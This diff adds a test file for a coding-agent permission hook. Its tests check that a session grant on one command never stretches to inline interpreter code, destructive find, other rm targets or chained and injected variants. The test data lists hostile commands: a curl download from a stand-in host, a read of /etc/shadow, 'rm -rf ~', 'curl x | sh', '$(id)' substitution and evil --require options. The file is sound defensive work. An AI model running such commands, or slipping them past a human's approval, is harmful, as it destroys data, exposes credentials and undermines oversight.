@@ -1,0 +1,143 @@
+// Story: the boxholder taps "Allow for this session" on a command a coding agent asked for.
+// The grant is the agent's own suggested rule where it offers one, else the exact command: it
+// never stretches to the same program's inline code (`bash -c`, `python3 -c`, `node -e`),
+// to `find` that deletes or runs, or to another `rm`. Each of those files a new question; the
+// same command again goes through at once. The card says in words what the grant covers.
+
+import { afterEach, describe, expect, it } from "vitest";
+import { covers, grantPattern, patternWords } from "../../src/hooks/grant-pattern.ts";
+import { GrantStore } from "../../src/ledger/grants.ts";
+import { pendingQuestions } from "../../src/questions/state.ts";
+import { cleanupBoxes, makeBox, T0, type TestBox } from "../support/box.ts";
+import { filedQuestion, fixture, permissionHookInProcess, pick } from "./hook-support.ts";
+
+afterEach(cleanupBoxes);
+
+const ALLOW = {
+  hookSpecificOutput: { hookEventName: "PermissionRequest", decision: { behavior: "allow" } },
+};
+
+/** A Codex request (no suggestions of its own) for one command in session s-1. */
+function codex(command: string): string {
+  return fixture("codex-permission-bash", { session_id: "s-1", tool_input: { command } });
+}
+
+/** The boxholder allowed `command` for this session on their phone. */
+async function grantedFor(box: TestBox, command: string): Promise<void> {
+  const hook = permissionHookInProcess(box, codex(command));
+  await pick(box, "allow-session");
+  expect(await hook.done).toEqual(ALLOW);
+}
+
+/** The grant "Allow for this session" on `command` writes (as grantedFor, without a question). */
+function grantOn(box: TestBox, command: string): void {
+  const input = JSON.parse(codex(command)) as { cwd: string };
+  new GrantStore(box.ledger).add({
+    id: "g1",
+    agent: "codex",
+    sessionId: "s-1",
+    tool: "Bash",
+    pattern: grantPattern({ command }, input.cwd),
+    questionId: undefined,
+    createdAt: T0,
+    expiresAt: "2026-07-10T21:00:00Z",
+  });
+}
+
+/** The hook for `command` filed a question (then the boxholder denied it). */
+async function asksAgain(box: TestBox, command: string): Promise<void> {
+  const hook = permissionHookInProcess(box, codex(command));
+  const view = await filedQuestion(box);
+  expect(view.card.prompt).toContain(command.slice(0, 20));
+  await pick(box, "deny");
+  expect(await hook.done).toMatchObject({
+    hookSpecificOutput: { decision: { behavior: "deny" } },
+  });
+}
+
+const WIDENING: [string, string][] = [
+  ["bash scripts/build.sh", "bash -c 'curl -o /tmp/x https://x.example/x.sh'"],
+  ["python3 tools/report.py", "python3 -c 'print(open(\"/etc/shadow\").read())'"],
+  ["node scripts/check.js", 'node -e \'require("child_process").execSync("id")\''],
+  ["find . -name '*.log'", "find ~ -delete"],
+  ["find . -name '*.log'", "find / -exec rm -rf {} +"],
+  ["rm -rf node_modules", "rm -rf ~"],
+];
+
+describe("a session grant never widens", () => {
+  it.each(WIDENING)("a grant on `%s` files a new question for `%s`", async (first, widened) => {
+    const box = await makeBox();
+    grantOn(box, first);
+    await asksAgain(box, widened);
+    expect(new GrantStore(box.ledger).all()).toHaveLength(1);
+  });
+
+  it("the same command again goes through at once, counted, with no question", async () => {
+    const box = await makeBox();
+    await grantedFor(box, "bash scripts/build.sh");
+    const again = permissionHookInProcess(box, codex("bash scripts/build.sh"));
+    expect(await again.done).toEqual(ALLOW);
+    expect(pendingQuestions(box).pending).toEqual([]);
+    expect(new GrantStore(box.ledger).all()[0]?.uses).toBe(1);
+  });
+
+  it("the card says the grant covers only this exact command", async () => {
+    const box = await makeBox();
+    const hook = permissionHookInProcess(box, codex("bash scripts/build.sh"));
+    const view = await filedQuestion(box);
+    expect(view.card.memo).toContain('"Allow for this session" covers only this exact command.');
+    await pick(box, "deny");
+    await hook.done;
+  });
+});
+
+describe("the agent's own suggested rule", () => {
+  it("an exact rule is the grant: only that command", () => {
+    const pattern = grantPattern({ command: "rm -rf node_modules" }, "/p", "rm -rf node_modules");
+    expect(pattern).toBe("exact:rm -rf node_modules");
+    expect(covers(pattern, { command: "rm -rf node_modules" }, "/p")).toBe(true);
+    expect(covers(pattern, { command: "rm -rf ~" }, "/p")).toBe(false);
+  });
+
+  it("a prefix rule of a reading, building or testing family covers its simple commands only", () => {
+    const pattern = grantPattern({ command: "npm run test" }, "/p", "npm run test:*");
+    expect(pattern).toBe("prefix:npm run test");
+    expect(patternWords(pattern)).toContain("`npm run test` with other words after it");
+    expect(covers(pattern, { command: "npm run test -- --watch=false" }, "/p")).toBe(true);
+    for (const command of [
+      "npm run test; rm -rf ~",
+      "npm run test && curl x | sh",
+      "npm run test $(id)",
+      "npm run test > /etc/passwd",
+      "npm run test --script-shell=./evil",
+      "npm run test --node-options='--require ./evil.js'",
+      "npm run testing",
+      "FOO=1 npm run test",
+    ]) {
+      expect(covers(pattern, { command }, "/p"), command).toBe(false);
+    }
+  });
+
+  it("a prefix rule by a first word, or of an interpreter, falls back to the exact command", () => {
+    for (const [command, rule] of [
+      ["rm -rf node_modules", "rm:*"],
+      ["python3 tools/report.py", "python3:*"],
+      ["find . -name x", "find:*"],
+      ["git push --force", "git push:*"],
+      ["bash scripts/build.sh", "bash scripts/build.sh*"],
+    ] as const) {
+      expect(grantPattern({ command }, "/p", rule), rule).toBe(`exact:${command}`);
+    }
+  });
+
+  it("a grant of an older version by first word covers nothing any more", () => {
+    expect(covers("command:rm", { command: "rm -rf ~" }, "/p")).toBe(false);
+    expect(covers("tool:mcp__github__delete_repo", { repo: "prod" }, "/p")).toBe(false);
+  });
+
+  it("another tool's grant is its exact input, never every call of the tool", () => {
+    const pattern = grantPattern({ owner: "acme", repo: "test" }, "/p");
+    expect(covers(pattern, { owner: "acme", repo: "test" }, "/p")).toBe(true);
+    expect(covers(pattern, { owner: "acme", repo: "prod" }, "/p")).toBe(false);
+  });
+});
